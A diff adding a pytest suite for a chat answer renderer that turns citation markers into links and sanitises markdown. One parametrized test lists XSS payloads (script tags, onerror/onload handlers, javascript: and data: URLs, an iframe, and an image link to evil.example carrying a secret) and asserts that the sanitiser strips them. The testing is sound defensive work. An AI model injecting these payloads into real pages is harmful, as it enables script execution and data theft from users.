@@ -1,0 +1,54 @@
+"""Markdown of answers: markers become links, and nothing harmful gets through."""
+
+from __future__ import annotations
+
+import pytest
+
+from chat.rendering import cited_markers, render_answer
+
+
+def test_markers_with_a_source_become_links() -> None:
+    html = render_answer("Ten [1][2], **not [3]**.", markers={1, 2})
+    assert html.count('class="citation"') == 2
+    assert 'data-marker="1"' in html
+    assert "not [3]" in html
+
+
+def test_marker_in_code_stays_text() -> None:
+    assert "citation" not in render_answer("`a[1]`\n\n```\nb[1]\n```", markers={1})
+
+
+def test_link_definition_does_not_redirect_a_marker() -> None:
+    html = render_answer("See [1].\n\n[1]: https://evil.example", markers={1})
+    assert 'href="https://evil.example"' not in html
+    assert 'data-marker="1"' in html
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "<script>alert(1)</script>",
+        "<img src=x onerror=alert(1)>",
+        "![x](https://evil.example/?q=secret)",
+        "[x](javascript:alert(1))",
+        "[x](data:text/html;base64,PHNjcmlwdD4=)",
+        "<svg/onload=alert(1)>",
+        '[a](https://ok.example "x" onclick=alert(1))',
+        "<a href='javascript:alert(1)'>x</a>",
+        "<iframe src=https://evil.example></iframe>",
+    ],
+)
+def test_nothing_harmful_gets_through(text: str) -> None:
+    html = render_answer(text, markers={1})
+    for tag in ("<script", "<img", "<svg", "<iframe", 'href="javascript', 'href="data', "<a onclick", ' onclick="'):
+        assert tag not in html
+
+
+def test_tables_and_links_are_rendered() -> None:
+    html = render_answer("|a|b|\n|-|-|\n|1|2|\n\n[site](https://ok.example)", markers=())
+    assert "<table>" in html
+    assert '<a href="https://ok.example" rel="noopener noreferrer">site</a>' in html
+
+
+def test_cited_markers_are_read_from_the_text() -> None:
+    assert cited_markers("Ten [2], twelve [10][2]. [x]") == {2, 10}
